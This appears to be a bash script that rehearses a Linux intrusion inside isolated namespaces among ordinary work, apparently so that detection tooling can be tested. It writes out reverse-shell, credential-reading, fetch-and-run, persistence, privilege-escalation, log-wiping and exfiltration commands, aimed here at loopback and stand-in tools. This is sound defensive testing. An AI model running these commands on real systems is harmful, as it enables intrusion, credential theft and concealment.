#!/usr/bin/env bash
# Acts out an attack on a Linux host, harmlessly, among ordinary work.
#
#   sudo examples/rehearsal/rehearsal.sh              an attack among ordinary work
#   sudo examples/rehearsal/rehearsal.sh --ordinary   the ordinary work alone
#
# Nothing that happens here reaches the host. The script runs in namespaces of its own:
#   mounts    /tmp, /etc, /var/log, /home and every other folder it writes to are in memory,
#             and gone when it ends;
#   network   there is only a loopback device, without any way out;
#   hostname  changes stay inside.
# Accounts, keys and passwords are invented. Dangerous tools are stand-ins: copies of
# `echo` under another name, which print their arguments and do nothing.
#
# It needs root (for the namespaces), bash, coreutils, util-linux, iproute2, curl and python3;
# what it uses beyond that (git, make, cc) is left out where it is missing.
set -u

say() { printf '%s  %s\n' "$(printf '%(%H:%M:%S)T')" "$*"; }

# --- a stage of our own ---------------------------------------------------------------

if [ "${REHEARSAL_STAGE-}" != set ]; then
    if [ "$(id -u)" != 0 ]; then
        echo "rehearsal: needs root, for namespaces of its own: sudo $0 $*" >&2
        exit 2
    fi
    for tool in unshare setpriv ip curl python3; do
        if ! command -v "$tool" > /dev/null; then
            echo "rehearsal: needs $tool, which is not installed" >&2
            exit 2
        fi
    done
    exec env -i REHEARSAL_STAGE=set HOME=/root TERM=dumb LANG=C.UTF-8 \
        PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin \
        unshare --mount --net --uts -- bash "$0" "$@"
fi

empty() { # An empty folder in memory in place of each of these.
    for folder in "$@"; do
        [ -d "$folder" ] && { mount -t tmpfs -o mode=755 rehearsal "$folder" || exit 3; }
    done
}

set_the_stage() {
    ip link set lo up
    empty /tmp /var/tmp /var/log /home /root /srv /usr/local/bin /dev/shm
    mkdir /tmp/etc && cp -a /etc/. /tmp/etc && mount --bind /tmp/etc /etc || exit 3
    chmod 1777 /tmp /var/tmp /dev/shm
    cd /

    printf 'root:$6$invented$0123456789:19000:0:99999:7:::\n' > /etc/shadow
    mkdir -p /etc/cron.d /etc/systemd/system /root/.ssh /home/operator /srv/site
    printf 'invented, not a key\n' > /root/.ssh/id_ed25519
    printf 'ls\nwhoami\n' > /root/.bash_history
    printf 'session opened\n' | tee /var/log/auth.log /var/log/wtmp /var/log/syslog > /dev/null
    printf 'ok\n' > /srv/site/health
    cp /usr/bin/sleep /srv/site/updater
    cp /usr/bin/timeout /srv/site/counter

    for name in nmap nc systemctl useradd usermod nsenter insmod; do
        cp /usr/bin/echo "/usr/local/bin/$name"
    done
    cp "$(command -v bash)" /usr/local/bin/nginx
    cp "$(command -v bash)" /usr/local/bin/su
    cp "$(command -v bash)" /usr/local/bin/cron

    # A pipe that is full: who writes to it waits, and lives as long as a real tool would.
    mkfifo /tmp/full && exec 9<> /tmp/full && head -c 65536 /dev/zero >&9

    (cd /srv/site && exec python3 -m http.server --bind 127.0.0.1 8099 > /dev/null 2>&1) &
    SITE=$!
    for _ in $(seq 50); do
        curl -s -o /dev/null http://127.0.0.1:8099/health && return
        sleep 0.1
    done
    echo "rehearsal: the site on 127.0.0.1:8099 does not answer" >&2
    exit 3
}

linger() { # Run a command that writes, and let it live a fifth of a second.
    "$@" >&9 2> /dev/null &
    sleep 0.2
    kill $! 2> /dev/null
    wait $! 2> /dev/null
}

# --- ordinary work ----------------------------------------------------------------------

a_developer() {
    mkdir -p /home/operator/project && cd /home/operator/project || return
    printf 'int main(void) { return 0; }\n' > tool.c
    printf 'tool: tool.c\n\t$(CC) -o $@ $<\n\nclean:\n\trm -f tool\n' > Makefile
    printf '#!/bin/sh\nset -e\nls -l\nsleep 0.1\n' > build.sh
    chmod 755 build.sh
    ./build.sh
    if command -v git > /dev/null; then
        git init -q . && git add . &&
            git -c user.name=operator -c user.email=operator@localhost commit -q -m "First version"
        git status --short
        git log --oneline
    fi
    if command -v make > /dev/null && command -v cc > /dev/null; then
        make -s && ./tool && make -s clean
    fi
    python3 -c 'import json; print(json.dumps({"tests": 12, "failed": 0}))'
    grep -r main . | head -n 3
    find . -name '*.c' -newer Makefile
    touch tool.c
    sleep 0.5
    cat Makefile | sort | uniq -c
}

an_administrator() {
    uptime
    df -h /tmp
    tail -n 20 /var/log/syslog
    linger systemctl status cron
    curl -s http://127.0.0.1:8099/health
    sleep 1
    ps -e | wc -l
    ls -l /etc/cron.d
    du -sh /var/log
}

a_scheduler() {
    for _ in 1 2 3; do
        cron -c 'sh -c "find /var/log -name \"*.old\" -mtime +7"; true'
        cron -c 'sh -c "curl -s -o /dev/null http://127.0.0.1:8099/health"; true'
        sleep 0.8
    done
    tar -C /home/operator -czf /var/tmp/project.tar.gz project
}

ordinary_work() {
    (a_developer) &
    (an_administrator) &
    (a_scheduler) &
    wait %2 %3 %4
}

# --- the attack ---------------------------------------------------------------------------

break_in() {
    say "a web server starts a shell, and somebody looks around in it"
    nginx -c 'sh -c "sleep 0.2; id; uname -a; curl -s http://127.0.0.1:8099/health; sleep 0.2"; true'
    say "a program of the site hands a command to a shell"
    nginx -c '/srv/site/counter 5 bash -c "cat /etc/passwd; sleep 0.2; true"; true' > /dev/null
}

look_around() {
    say "a burst of questions about the host"
    for question in whoami id hostname "uname -a" "ss -lnt" "ps -e"; do
        $question > /dev/null
        sleep 0.05
    done
}

bring_tools() {
    say "a file is fetched and executed from a hidden folder"
    mkdir -p /tmp/.cache
    curl -s -o /tmp/.cache/updater http://127.0.0.1:8099/updater
    chmod +x /tmp/.cache/updater
    /tmp/.cache/updater 0.2
    say "an encoded script is decoded into a shell"
    { printf 'sleep 0.2' | base64; sleep 0.2; } | base64 -d | sh
    say "a program runs from shared memory"
    cp /usr/bin/sleep /dev/shm/worker
    /dev/shm/worker 0.2
}

call_home() {
    say "a shell is handed to a listener on 127.0.0.1 (our own)"
    python3 - << 'PYTHON' &
import socket, time
with socket.create_server(("127.0.0.1", 4444)) as server:
    server.settimeout(10)
    connection, _ = server.accept()
    with connection:
        time.sleep(0.3)
        connection.sendall(b"exit\n")
        time.sleep(0.2)
PYTHON
    listener=$!
    sleep 0.5
    bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
    wait "$listener"
    linger nc -e /bin/sh 127.0.0.1 4444
}

take_credentials() {
    say "password hashes and a private key are read"
    linger cat /etc/shadow
    linger cat /root/.ssh/id_ed25519
    say "the same with root's rights, through su"
    su -c 'cat /etc/shadow >&9 & sleep 0.2; kill $!'
}

scan() {
    say "ports are scanned, with a tool and by hand"
    linger nmap -sT 127.0.0.1
    for port in 21 22 25 80 443 3306 5432 6379; do
        linger nc -w 1 127.0.0.1 "$port"
    done
}

stay() {
    say "a job of cron, a service, a key, an account and a preloaded library are planted"
    { echo '*/5 * * * * root /tmp/.cache/updater'; sleep 0.1; } | tee /etc/cron.d/telemetry > /dev/null
    { echo '[Service]'; sleep 0.1; } | tee /etc/systemd/system/telemetry.service > /dev/null
    linger systemctl enable --now telemetry.service
    { echo 'ssh-ed25519 invented'; sleep 0.1; } | tee -a /root/.ssh/authorized_keys > /dev/null
    linger useradd -m -s /bin/bash support
    linger usermod -aG sudo support
    sleep 0.1 | tee /etc/ld.so.preload
}

rise() {
    say "a shell gets the setuid bit, and a user without rights starts it"
    cp /usr/bin/dash /var/tmp/helper
    chmod u+s /var/tmp/helper
    setpriv --reuid=65534 --regid=65534 --clear-groups /var/tmp/helper -p -c 'sleep 0.2; true'
    say "a module is loaded, and the namespaces of the first process are entered (stand-ins)"
    linger insmod /tmp/.cache/driver.ko
    linger nsenter -t 1 -m -u -n -i sh
}

hide() {
    say "a program takes the name of a kernel thread"
    (exec -a '[kworker/0:1]' sleep 0.3)
    say "the audit service is stopped, times are set back, logs and history are deleted"
    linger systemctl stop auditd
    touch -r /usr/bin/ls /usr/local/bin/nmap
    rm -f /var/log/auth.log
    truncate -s 0 /var/log/wtmp
    rm -f /root/.bash_history
    bash -c 'unset HISTFILE; sleep 0.1; true'
}

send_away() {
    say "the configuration is packed and sent to the site on 127.0.0.1"
    tar -czf /tmp/.cache/data.tgz /etc/systemd /etc/cron.d 2> /dev/null
    curl -s -o /dev/null -T /tmp/.cache/data.tgz http://127.0.0.1:8099/data.tgz
}

attack() {
    for act in break_in look_around bring_tools call_home take_credentials scan stay rise hide send_away; do
        ($act)
        sleep 0.2
    done
}

set_the_stage
say "ordinary work begins"
ordinary_work > /dev/null 2>&1 &
WORK=$!
[ "${1-}" = --ordinary ] || attack 9>&9
wait "$WORK"
kill "$SITE"
wait "$SITE" 2> /dev/null
say "done; everything that was written is gone"
